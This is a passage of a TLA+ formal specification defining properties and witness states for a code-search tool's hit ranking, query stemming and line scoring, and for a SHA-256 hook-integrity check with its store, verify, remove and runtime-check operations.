        /\ local[1].snippets_per_file = 1
        /\ \A e \in tree :
               /\ HasHit(e) <=> CopiesIn(e.id, scored) > 0 /\ CompactHit(e) # None
               /\ HasHit(e) =>
                      /\ HitOf(e) = CompactHit(e)[1]
                      /\ OneRow(HitOf(e), Ordered(e)[1], Lines(ReadBytes(e)))
                      /\ \A k \in 1..Len(Ordered(e)) :
                             \/ Ordered(e)[k].score < Ordered(e)[1].score
                             \/ /\ Ordered(e)[k].score = Ordered(e)[1].score
                                /\ Ordered(e)[k].line_idx >= Ordered(e)[1].line_idx
        /\ \A i \in 1..(Len(outcome.hits) - 1) :
               outcome.hits[i].score >= outcome.hits[i + 1].score

\* a compact run with a context_lines that is not 0 holds a hit for a file with
\* several qualifying lines
C29_Witness ==
    /\ Returned
    /\ args[1].compact
    /\ args[1].context_lines # 0
    /\ \E e \in tree : /\ HasHit(e)
                       /\ Len(Ordered(e)) >= 3
                       /\ Len(HitOf(e).snippets[1].lines) = 1

(***************************************************************************)
(* Hook integrity                                                          *)
(***************************************************************************)
\* the last call was verify_hook_at, both files exist, and the content of the hash
\* file is the work of store_hash
VerifiedBothFiles ==
    /\ last # None
    /\ last[1].op = "verify_hook_at"
    /\ hook # None
    /\ hash_file # None
    /\ ~baseline.foreign

\* the status verify_hook_at must return when the baseline was taken of the content
\* `of` of the hook
StatusAgainst(of) ==
    IF of = hook[1] THEN Status("Verified")
    ELSE Tampered(Sha256Hex(of), Sha256Hex(hook[1]))

\* C16 as stated: while both files exist and the file system fails no read of the
\* verification, verify_hook_at returns Verified exactly when the hook has the content
\* it had at the most recent store_hash that returned Ok, and otherwise Tampered with
\* the stored hash, the current hash, and the two different.
C16_VerifiedIffLastSuccessfulStore ==
    VerifiedBothFiles /\ last[1].io = "ok" /\ baseline.stored # None =>
        /\ last[1].result = Ok(StatusAgainst(baseline.stored[1]))
        /\ Sha256Hex(baseline.stored[1]) = Sha256Hex(hook[1]) <=> baseline.stored = hook

\* what verify_hook_at does guarantee while both files exist: it returns a status
\* exactly when its reads succeed and the most recent store_hash that wrote to the hash
\* file wrote its line (a store_hash that fails while writing leaves the file empty);
\* the status is Verified exactly when the hook has the content it had at that
\* store_hash, whether that call returned Ok or failed after writing, and otherwise
\* Tampered with the stored hash, the current hash, and the two different.
VerifiedIffLastWrittenLine ==
    VerifiedBothFiles =>
        /\ last[1].result.ok <=> (last[1].io = "ok" /\ baseline.written # None)
        /\ last[1].result.ok =>
               /\ last[1].result = Ok(StatusAgainst(baseline.written[1]))
               /\ Sha256Hex(baseline.written[1]) = Sha256Hex(hook[1]) <=> baseline.written = hook

\* the first whitespace-separated token of the content is 64 hexadecimal digits
HoldsHash(content) ==
    \E a \in 1..Len(content) :
        /\ a + 63 <= Len(content)
        /\ \A i \in 1..(a - 1) : IsWs(content[i])
        /\ \A i \in a..(a + 63) :
               content[i] \in 48..57 \/ content[i] \in 97..102 \/ content[i] \in 65..70
        /\ a + 63 < Len(content) => IsWs(content[a + 64])

\* C17: verify_hook_at returns NotInstalled when neither file exists, OrphanedHash when
\* only the hash file exists, NoBaseline when only the hook exists, each without
\* reading a file, and an error, hence no status, when both exist and the first
\* whitespace-separated token of the hash file is not 64 hexadecimal digits.
C17_OutcomeWithoutComparison ==
    last # None /\ last[1].op = "verify_hook_at" =>
        /\ hook = None /\ hash_file = None =>
               last[1].result = Ok(Status("NotInstalled")) /\ last[1].seen = {}
        /\ hook = None /\ hash_file # None =>
               last[1].result = Ok(Status("OrphanedHash")) /\ last[1].seen = {}
        /\ hook # None /\ hash_file = None =>
               last[1].result = Ok(Status("NoBaseline")) /\ last[1].seen = {}
        /\ hook # None /\ hash_file # None /\ ~HoldsHash(hash_file[1].content) =>
               ~last[1].result.ok

\* both files exist, the hash file holds "not-a-valid-hash", every read succeeds:
\* verify_hook_at returns the error of read_stored_hash
C17_Witness ==
    /\ last # None
    /\ last[1].op = "verify_hook_at"
    /\ last[1].io = "ok"
    /\ hook # None
    /\ hash_file # None
    /\ hash_file[1].content = (* not-a-valid-hash *) <<110, 111, 116, 45, 97, 45, 118, 97, 108, 105, 100, 45, 104, 97, 115, 104>>
    /\ last[1].result = Err("Invalid hash format")

\* the last call was remove_hash
Removed == last # None /\ last[1].op = "remove_hash"

\* remove_hash and its effect: when it returns Ok, its value is whether the hash file
\* existed before the call, the hash file does not exist, and the hook is as it was;
\* it fails only on a hash file that existed, and then the file keeps its content
C18_Effect ==
    Removed =>
        /\ hook = last[1].hook
        /\ last[1].result.ok =>
               /\ last[1].result.value = (last[1].hash_file # None)
               /\ hash_file = None
        /\ ~last[1].result.ok =>
               /\ last[1].hash_file # None
               /\ hash_file # None
               /\ hash_file[1].content = last[1].hash_file[1].content

\* a remove_hash that comes immediately after a remove_hash that returned Ok returns
\* Ok(false)
C18_Again ==
    Removed /\ last[1].result.ok /\ last' # None /\ last'[1].op = "remove_hash" =>
        last'[1].result = Ok(FALSE)

\* C18: remove_hash returns true exactly when the hash file existed before the call;
\* after it has returned Ok the hash file does not exist, read-only or not before, the
\* hook file is unchanged, and an immediately following remove_hash returns false.
C18_RemoveHash == [](C18_Effect) /\ [][C18_Again]_vars

\* remove_hash has removed a hash file that store_hash had made read-only, beside a
\* hook that is still there
C18_Witness ==
    /\ Removed
    /\ last[1].hash_file # None
    /\ last[1].hash_file[1].mode = ModeReadOnly
    /\ baseline = Origin(None, None, FALSE)
    /\ last[1].result = Ok(TRUE)
    /\ hash_file = None
    /\ hook # None

\* the last call was runtime_check
Checked == last # None /\ last[1].op = "runtime_check"

\* the value of RTK_SKIP_INTEGRITY the last runtime_check has found, "" when unset
SkipValue == IF last[1].io[1] = None THEN "" ELSE last[1].io[1][1]

\* what verify_hook returns in the circumstances of the last runtime_check
HookStatus == verify_hook(last[1].io[2], hook, hash_file, last[1].io[3]).result

\* C19: runtime_check exits with code 1 exactly when RTK_SKIP_INTEGRITY is not "1" and
\* the status of the hook is Tampered; for the four other statuses it returns Ok; with
\* RTK_SKIP_INTEGRITY=1 it returns Ok and has neither looked for the hook nor read a
\* file; it returns an error only when verify_hook does.
C19_ExitOnlyWhenTampered ==
    Checked =>
        /\ last[1].result = [exit |-> 1] <=>
               (SkipValue # "1" /\ HookStatus.ok /\ HookStatus.value.status = "Tampered")
        /\ SkipValue # "1" /\ HookStatus.ok /\ HookStatus.value.status # "Tampered" =>
               /\ HookStatus.value.status \in {"Verified", "NotInstalled", "NoBaseline", "OrphanedHash"}
               /\ last[1].result = Ok("()")
        /\ SkipValue = "1" =>
               /\ last[1].result = Ok("()")
               /\ last[1].seen.read = {}
               /\ ~last[1].seen.located
        /\ SkipValue # "1" /\ ~HookStatus.ok => last[1].result = HookStatus

\* RTK_SKIP_INTEGRITY is set, to "true", the hook does not match its stored hash:
\* runtime_check has read both files and exits with code 1
C19_Witness ==
    /\ Checked
    /\ SkipValue = "true"
    /\ HookStatus.ok
    /\ HookStatus.value.status = "Tampered"
    /\ last[1].seen.read = {"hash file", "hook"}
    /\ last[1].result = [exit |-> 1]

\* C24: the phrase is the trimmed, lowercased query; when it is not empty and every
\* token of the query is a stop word or shorter than 2 characters, terms is the phrase
\* alone; terms is empty only if the phrase is empty; no string is twice in terms.
C24_PhraseIsSoleTerm ==
    model # None =>
        /\ model[1].phrase = ToLower(Trim(input))
        /\ model[1].phrase # <<>> /\ Survivors = {} => model[1].terms = << model[1].phrase >>
        /\ model[1].terms = <<>> <=> model[1].phrase = <<>>
        /\ \A i, j \in 1..Len(model[1].terms) :
               model[1].terms[i] = model[1].terms[j] => i = j

\* a query of a stop word and of a one-letter word with punctuation, blanks around:
\* the phrase is the only term
C24_Witness ==
    /\ model # None
    /\ input = (* The  Z!  *) <<84, 104, 101, 32, 32, 90, 33, 32>>
    /\ Survivors = {}
    /\ model[1].terms = << (* the  z! *) <<116, 104, 101, 32, 32, 122, 33>> >>

(***************************************************************************)
(* Stemming                                                                *)
(***************************************************************************)
\* C22: stemming is idempotent: stem_token applied to the result of stem_token returns
\* it unchanged.
C22_StemIdempotent == Len(returned) >= 2 => returned[2] = returned[1]

\* the suffixes the token ends with, by their place in SUFFIXES, the longest first
EndsIn(token) == {k \in 1..Len(SUFFIXES) : EndsWith(token, SUFFIXES[k])}

\* the token without the suffix of place k
Without(token, k) == SubSeq(token, 1, Len(token) - Len(SUFFIXES[k]))

\* C23 as stated: stem_token strips the longest of the suffixes the token ends with,
\* and only when what remains is at least 2 characters longer than that suffix; in
\* every other case the token is returned unchanged.
C23_LongestSuffixTwoLonger ==
    Len(returned) >= 1 /\ (\A i \in 1..Len(given) : given[i] <= 127) =>
        returned[1] =
            IF /\ EndsIn(given) # {}
               /\ Len(Without(given, MinOf(EndsIn(given))))
                      >= Len(SUFFIXES[MinOf(EndsIn(given))]) + 2
            THEN Without(given, MinOf(EndsIn(given)))
            ELSE given

\* the suffixes stem_token may strip: the token ends with them and at least 3
\* characters remain
Strippable(token) == {k \in EndsIn(token) : Len(Without(token, k)) >= 3}

\* C23 amended: stem_token strips the first of ingly, edly, ing, ed, es, s that the
\* token ends with and that leaves at least 3 characters, whatever the length of the
\* suffix; when there is none, or when the token is not ASCII, the token is returned
\* unchanged.
C23_FirstSuffixLeavingThree ==
    Len(returned) >= 1 =>
        returned[1] =
            IF (\E i \in 1..Len(given) : given[i] > 127) \/ Strippable(given) = {}
            THEN given
            ELSE Without(given, MinOf(Strippable(given)))

\* "abced" ends with "ed" and 3 characters remain, fewer than 2 more than the suffix:
\* stem_token returns "abc"
C23_Witness ==
    /\ given = (* abced *) <<97, 98, 99, 101, 100>>
    /\ returned # <<>>
    /\ returned[1] = (* abc *) <<97, 98, 99>>

(***************************************************************************)
(* Line scores                                                             *)
(***************************************************************************)
\* both lines have been scored
BothScored == Len(returned) = 2

\* the line holds the phrase of the query, a phrase of 3 characters or more
PhraseIn(line) ==
    Len(given.query.phrase) >= 3 /\ Contains(ToLower(Trim(line)), given.query.phrase)

\* the terms of the query the line holds
TermsIn(line) ==
    {given.query.terms[k] : k \in {i \in 1..Len(given.query.terms) :
                                       Contains(ToLower(Trim(line)), given.query.terms[i])}}

\* the line has more than 220 characters
Long(line) == Len(Trim(line)) > 220

IsDefinition(line) == is_symbol_definition(Trim(line))

IsComment(line) == is_comment_line(Trim(line))

\* the two lines hold the same of the query and are of the same length class
SameMatches ==
    /\ PhraseIn(given.lines[1]) = PhraseIn(given.lines[2])
    /\ TermsIn(given.lines[1]) = TermsIn(given.lines[2])
    /\ Long(given.lines[1]) = Long(given.lines[2])

\* the first line is a definition, the second is not, and they are otherwise alike
DefinitionPair ==
    /\ BothScored
    /\ SameMatches
    /\ TermsIn(given.lines[1]) # {}
    /\ IsComment(given.lines[1]) = IsComment(given.lines[2])
    /\ IsDefinition(given.lines[1])
    /\ ~IsDefinition(given.lines[2])

\* C25 as stated: of two lines alike in phrase match, matched terms, comment status
\* and length class, the one that is a definition scores at least 2.5 more.
C25_DefinitionBonusAtLeast ==
    DefinitionPair =>
        /\ returned[1] # None
        /\ returned[2] # None
        /\ returned[1][1].score - returned[2][1].score >= 2500000

\* C25 amended: a definition is never a comment; both lines are candidates, and the
\* definition scores 2.5 more when neither line has more than 220 characters, 2.25
\* more (2.5 * 0.9) when both have.
C25_DefinitionBonusScaled ==
    /\ BothScored => \A k \in 1..2 : ~(IsDefinition(given.lines[k]) /\ IsComment(given.lines[k]))
    /\ DefinitionPair =>
           /\ returned[1] # None
           /\ returned[2] # None
           /\ returned[1][1].score - returned[2][1].score
                  = (IF Long(given.lines[1]) THEN 2250000 ELSE 2500000)

\* a definition and a plain line of more than 220 characters with the same matches
C25_Witness ==
    /\ DefinitionPair
    /\ Long(given.lines[1])
    /\ returned[1][1].score - returned[2][1].score = 2250000

\* the first line is a comment, the second is not, and they are otherwise alike
CommentPair ==
    /\ BothScored
    /\ SameMatches
    /\ IsComment(given.lines[1])
    /\ ~IsComment(given.lines[2])

\* C26 as stated: when the line that is no comment is a candidate, the comment is one
\* too and its score is 0.7 times the other's.
C26_CommentScaledCandidate ==
    CommentPair /\ returned[2] # None =>
        /\ returned[1] # None
        /\ 10 * returned[1][1].score = 7 * returned[2][1].score

\* the score of the second line without its definition bonus
WithoutBonus(line, score) ==
    IF IsDefinition(line) THEN score - (IF Long(line) THEN 2250000 ELSE 2500000) ELSE score

\* C26 amended: when the line that is no comment is a candidate, the comment is a
\* candidate exactly when 0.7 times the other's score, taken without the definition
\* bonus a comment cannot have, is at least 1.2, and that product is then its score.
C26_CommentScaledOrDiscarded ==
    CommentPair /\ returned[2] # None =>
        /\ returned[1] # None <=>
               7 * WithoutBonus(given.lines[2], returned[2][1].score) >= 10 * 1200000
        /\ returned[1] # None =>
               10 * returned[1][1].score = 7 * WithoutBonus(given.lines[2], returned[2][1].score)

\* a line with one term of the query scores 1.7; the same line as a comment scores
\* 1.19 and is discarded
C26_Witness ==
    /\ CommentPair
    /\ ~IsDefinition(given.lines[2])
    /\ returned[2] # None
    /\ returned[2][1].score = 1700000
    /\ returned[1] = None

(***************************************************************************)
(* Two files of one content                                                *)
(***************************************************************************)
\* the displayed path holds the phrase of the query, letter case apart
PathHoldsPhrase(path) == Contains(ToLower(path), given.query.phrase)

\* C27: of two files of the same content that are both hits, when the displayed path
\* of the first holds the query phrase and that of the second does not, the first has
\* the strictly higher score and comes first in the ranked hits, whichever was
\* analyzed first, for every query.
C27_PathMatchRanksAhead ==
    \A k \in 1..2 :
        /\ Len(returned) = 3
        /\ returned[1] # None
        /\ returned[2] # None
        /\ PathHoldsPhrase(given.paths[k])
        /\ ~PathHoldsPhrase(given.paths[3 - k])
        => /\ returned[k][1].score > returned[3 - k][1].score
           /\ returned[3] = << returned[k][1], returned[3 - k][1] >>

\* the phrase is a stop word of two characters, taken as the only term: the file
\* whose path holds it was analyzed second and is ranked first
C27_Witness ==
    /\ Len(returned) = 3
    /\ given.query.terms = << (* is *) <<105, 115>> >>
    /\ given.paths = << (* main.rs *) <<109, 97, 105, 110, 46, 114, 115>>, (* this.rs *) <<116, 104, 105, 115, 46, 114, 115>> >>
    /\ returned[1] # None
    /\ returned[2] # None
    /\ returned[3] = << returned[2][1], returned[1][1] >>

(***************************************************************************)
(* store_hash on a hook that cannot be read                                *)
(***************************************************************************)
\* the last call was store_hash, on a hook that did not exist or could not be read
StoredUnreadable ==
    /\ last # None
    /\ last[1].op = "store_hash"
    /\ (last[1].hook = None \/ last[1].io = "read hook fails")

\* C30: store_hash on a hook that does not exist or cannot be read returns an error
\* and leaves the hash file as it was, in existence, content and permissions, and the
\* hook as well: verify_hook_at returns after the call what it returned before.
C30_FailedStoreKeepsBaseline ==
    StoredUnreadable =>
        /\ last[1].result = Err("Failed to read file")
        /\ hash_file = last[1].hash_file
        /\ hook = last[1].hook
        /\ \A io \in {"ok", "read hash fails", "read hook fails"} :
               verify_hook_at(hook, hash_file, io)
                   = verify_hook_at(last[1].hook, last[1].hash_file, io)

\* store_hash was called after the hook was deleted, the hash file being read-only:
\* the hash file is still there, read-only, with its line
C30_Witness ==
    /\ StoredUnreadable
    /\ last[1].hook = None
    /\ hash_file # None
    /\ hash_file[1].mode = ModeReadOnly
    /\ HoldsHash(hash_file[1].content)
    /\ ~last[1].result.ok
====
